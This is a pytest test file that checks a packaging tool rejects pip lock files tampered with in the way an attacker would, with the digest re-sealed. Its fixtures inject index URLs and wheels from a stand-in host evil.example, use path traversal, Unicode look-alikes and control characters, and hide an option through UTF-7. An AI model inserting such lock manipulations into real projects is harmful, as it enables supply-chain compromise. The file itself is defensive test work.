"""Change a lock as an attacker would, who writes the digest in its header anew."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable

import pytest

EVIL = "https://evil.example/simple"
OTHER = f"--hash=sha256:{'0' * 64}"
VIA = "    # via -r requirements.in\n"
HEAD = re.compile(r"body=\S+")


def reseal(text: str, change: Callable[[str], str]) -> str:
    """Change the body of a lock, and make the digest in its header that of the new body."""
    first, header, body = text.split("\n", 2)
    body = change(body)
    read = body.replace("\r", "\n").encode("utf-8", "surrogatepass").decode("utf-8", "replace")
    digest = hashlib.sha256(read.encode()).hexdigest()
    return "\n".join((first, HEAD.sub(f"body=sha256:{digest}", header), body))


def before(line: str) -> Callable[[str], str]:
    return lambda body: f"{line}\n{body}"


def after(*lines: str) -> Callable[[str], str]:
    return lambda body: body + "".join(f"{line}\n" for line in lines)


def replacing(old: str, new: str) -> Callable[[str], str]:
    return lambda body: body.replace(old, new, 1)


def extra(text: str = f"evil==6.6.6 {OTHER}", via: str = VIA) -> Callable[[str], str]:
    return lambda body: f"{body}{text}\n{via}"


# Each: what is done to the body of the lock, and what is said of it.
CHANGES = {
    "--index-url": (before(f"--index-url {EVIL}"), f"nothing asks for `--index-url {EVIL}` (line 3)"),
    "--extra-index-url": (after(f"--extra-index-url={EVIL}"), f"nothing asks for `--extra-index-url={EVIL}` (line 7)"),
    "--trusted-host": (
        before("--trusted-host evil.example"),
        "nothing asks for `--trusted-host evil.example` (line 3)",
    ),
    "--find-links": (before(f"--find-links {EVIL}"), f"nothing asks for `--find-links {EVIL}` (line 3)"),
    "--no-binary": (before("--no-binary :all:"), "nothing asks for `--no-binary :all:` (line 3)"),
    "--pre": (before("--pre"), "nothing asks for `--pre` (line 3)"),
    "-i": (before(f"-i {EVIL}"), f"line 3 is not a locked requirement: `-i {EVIL}`"),
    "-r": (after("-r more.txt"), "line 7 is not a locked requirement: `-r more.txt`"),
    "-c": (after("-c more.txt"), "line 7 is not a locked requirement: `-c more.txt`"),
    "-e": (after("-e ."), "line 7 is not a locked requirement: `-e .`"),
    "an option over two lines": (
        before(f"--index-\\\nurl {EVIL}"),
        f"nothing asks for `--index-url {EVIL}` (line 3)",
    ),
    "an option of its own": (
        replacing("idna==3.20", 'idna==3.20 --config-settings "a=b"'),
        'line 3 is not a locked requirement: `idna==3.20 --config-settings "a=b"',
    ),
    "--global-option": (
        replacing("idna==3.20", "idna==3.20 --global-option=x"),
        "line 3 is not a locked requirement: `idna==3.20 --global-option=x",
    ),
    "an option in a marker": (
        replacing("idna==3.20", "idna==3.20 ; python_version > ' --index-url'"),
        "line 3 is not a locked requirement: `idna==3.20 ; python_version > ' --index-url'",
    ),
    "a URL": (
        replacing("idna==3.20", "idna @ https://evil.example/idna-3.20-py3-none-any.whl"),
        "nothing asks for idna @ https://evil.example/idna-3.20-py3-none-any.whl (line 3)",
    ),
    "a URL of another package": (
        extra(f"evil @ https://evil.example/evil-1-py3-none-any.whl {OTHER}"),
        "nothing asks for evil @ https://evil.example/evil-1-py3-none-any.whl (line 7)",
    ),
    "a wheel beside the lock": (
        extra(f"./wheels/idna-3.20-py3-none-any.whl {OTHER}"),
        "line 7: idna is pinned again, after line 3",
    ),
    "another wheel beside the lock": (
        extra(f"./wheels/evil-1-py3-none-any.whl {OTHER}"),
        "nothing asks for wheels/evil-1-py3-none-any.whl (line 7)",
    ),
    "a recorded wheel": (
        lambda body: (
            f"# vendored: evil-1-py3-none-any.whl - from ./evil\n{body}./wheels/evil-1-py3-none-any.whl {OTHER}\n"
        ),
        "nothing asks for wheels/evil-1-py3-none-any.whl (line 8)",
    ),
    "a path outside": (
        after(f"./wheels/../../evil-1-py3-none-any.whl {OTHER}"),
        "line 7 is not a locked requirement: `./wheels/../../evil-1-py3-none-any.whl ",
    ),
    "a false marker": (
        replacing("idna==3.20", "idna==3.20 ; sys_platform == 'win32'"),
        "idna>=3.7 is asked for, the lock has idna 3.20 only where sys_platform == 'win32', which the image is not",
    ),
    "a marker that only the image can judge": (
        replacing("idna==3.20", "idna==3.20 ; python_full_version == '3.12.0'"),
        "line 3: idna's marker `python_full_version == '3.12.0'` depends on python_full_version, which is unknown",
    ),
    "a marker that pip cannot read": (
        replacing("idna==3.20", "idna==3.20 ; nonsense"),
        "line 3: idna's marker `nonsense` cannot be read",
    ),
    "an extra package": (extra(), "nothing that is asked for needs evil 6.6.6 (line 7)"),
    "an extra package that says nothing": (extra(via=""), "nothing that is asked for needs evil 6.6.6 (line 7)"),
    "an extra package that needs itself": (
        extra(via="    # via evil\n"),
        "nothing that is asked for needs evil 6.6.6 (line 7)",
    ),
    "a hidden extra package": (
        replacing("    # via", f"    # \\\nevil==6.6.6 {OTHER}\n    # via"),
        "nothing that is asked for needs evil 6.6.6 (line 7)",
    ),
    "an older version": (replacing("==3.20", "==3.6"), "idna>=3.7 is asked for, the lock has idna 3.6"),
    "another name for it": (extra(f"IDNA==3.6 {OTHER}"), "line 7: idna is pinned again, after line 3"),
    "two for two platforms": (
        extra(f"idna==3.6 ; sys_platform == 'linux' {OTHER}"),
        "line 7: idna is pinned again, after line 3",
    ),
    "no package": (lambda body: "", "idna>=3.7 is asked for, the lock has no idna"),
    "any version": (replacing("idna==3.20", "idna>=3.20"), "line 3 is not a locked requirement: `idna>=3.20 "),
    "a part of a version": (replacing("==3.20", "==3.*"), "line 3 is not a locked requirement: `idna==3.* "),
    "no hash": (lambda body: "idna==3.20\n" + VIA, "line 3: idna has no hash"),
    "a hash after a comment": (
        lambda body: f"idna==3.20 \\\n# {OTHER} \\\n    {OTHER}\n",
        "line 3: idna has no hash",
    ),
    "md5": (
        lambda body: f"idna==3.20 --hash=md5:{'0' * 32}\n{VIA}",
        f"line 3 is not a locked requirement: `idna==3.20 --hash=md5:{'0' * 32}`",
    ),
    "half a hash": (
        lambda body: f"idna==3.20 --hash=sha256:{'0' * 32}\n{VIA}",
        f"line 3 is not a locked requirement: `idna==3.20 --hash=sha256:{'0' * 32}`",
    ),
    "sha1": (
        lambda body: f"idna==3.20 --hash=sha1:{'0' * 40}\n{VIA}",
        f"line 3 is not a locked requirement: `idna==3.20 --hash=sha1:{'0' * 40}`",
    ),
    "credentials": (
        before("--index-url https://user:s3cret@evil.example/simple"),
        "line 3 holds credentials: `--index-url https://****@evil.example/simple`",
    ),
    "credentials after a hash": (
        replacing("    # via", "    # via https://user:s3cret@evil.example/simple"),
        "line 6 holds credentials: `    # via https://****@evil.example/simple",
    ),
    "a token": (
        replacing("    # via", "    # https://evil.example/?token=s3cret\n    # via"),
        "line 6 holds credentials: `    # https://evil.example/?token=****`",
    ),
    "a variable": (
        replacing("idna==3.20", "idna==${VERSION}"),
        "line 3: pip would replace an environment variable: `idna==${VERSION} ",
    ),
    "a variable for an option": (
        before("${OPTIONS}"),
        "line 3: pip would replace an environment variable: `${OPTIONS}`",
    ),
    "a carriage return": (before(f"# \r--index-url {EVIL}"), f"nothing asks for `--index-url {EVIL}` (line 4)"),
    "a line separator": (before(f"# \u2028--index-url {EVIL}"), "line 3 has the character U+2028, which no lock has"),
    "a form feed": (before(f"# \x0c--index-url {EVIL}"), "line 3 has the character U+000C, which no lock has"),
    "a NUL": (replacing("idna", "idna\0"), "line 3 has the character U+0000, which no lock has"),
    "a tab": (replacing("==3.20", "==3.20\t"), "line 3 has the character U+0009, which no lock has"),
    "a byte order mark": (before("\ufeff"), "line 3 has the character U+FEFF, which no lock has"),
    "a direction mark": (before("# \u202e"), "line 3 has the character U+202E, which no lock has"),
    "no UTF-8": (before("# \ud800"), "line 3 has the character U+FFFD, which no lock has"),
    "a look-alike": (replacing("idna", "idn\u0430"), "line 3 is not a locked requirement: `idn\u0430==3.20 "),
}


@pytest.mark.parametrize(("change", "said"), CHANGES.values(), ids=CHANGES.keys())
def test_every_reader_refuses_it(project, mlpackage, change, said):
    """`check`, `generate`, `plan` and `lock --check` each refuse the lock with the line, and no context is written."""
    lock = project / "locks/requirements.txt"
    changed = reseal(lock.read_text(), change)
    lock.write_bytes(changed.encode("utf-8", "surrogatepass"))

    ended = [mlpackage(*words) for words in (("check",), ("generate",), ("plan",), ("lock", "--check"))]

    assert [(outcome.status, outcome.out, said in outcome.err) for outcome in ended] == [(1, "", True)] * 4
    assert not (project / "dist").exists()
    assert "s3cret" not in "".join(outcome.err for outcome in ended)


def test_another_encoding(project, mlpackage):
    """A comment that makes pip decode the lock as UTF-7, in which other comments are options, is refused."""
    lock = project / "locks/requirements.txt"
    lock.write_text(
        "# coding: utf-7\n" + reseal(lock.read_text(), before("# +AAo---index-url https+ADo-//evil.example"))
    )

    outcome = mlpackage("lock", "--check")

    assert (outcome.status, outcome.out) == (1, "")
    assert "`coding: utf-7` in its first lines makes pip decode it differently" in outcome.err


def test_a_hash_that_was_swapped(project, mlpackage):
    """A hash that is not that of the wheel which was found when the lock was made is refused."""
    lock, packages = project / "locks/requirements.txt", project / "locks/packages.json"
    first = re.search("--hash=sha256:([0-9a-f]{64})", lock.read_text())[1]
    packages.write_text(json.dumps({"idna==3.20": {"sha256": first}}))
    passed = mlpackage("lock", "--check")
    lock.write_text(reseal(lock.read_text(), replacing(first, "0" * 64)))

    ended = [mlpackage(*words) for words in (("check",), ("generate",), ("lock", "--check"))]

    said = f"idna 3.20 (line 3) has not the hash that packages.json has for it, sha256:{first}"
    assert passed.status == 0
    assert [(outcome.status, outcome.out, said in outcome.err) for outcome in ended] == [(1, "", True)] * 3


def test_a_pin_for_each_platform(project, mlpackage):
    """Of two pins of one name, the one counts whose marker holds in the image."""
    lock = project / "locks/requirements.txt"
    windows, linux = (
        f"idna=={version} ; sys_platform == '{name}' {OTHER}\n{VIA}"
        for version, name in (("3.6", "win32"), ("3.20", "linux"))
    )
    lock.write_text(reseal(lock.read_text(), lambda _: windows + linux))
    first = mlpackage("lock", "--check")
    lock.write_text(reseal(lock.read_text(), lambda _: linux + windows))

    second = mlpackage("lock", "--check", "--json")

    assert (first.status, second.status) == (0, 0)
    assert [package["version"] for package in json.loads(second.out)["packages"]] == ["3.20"]
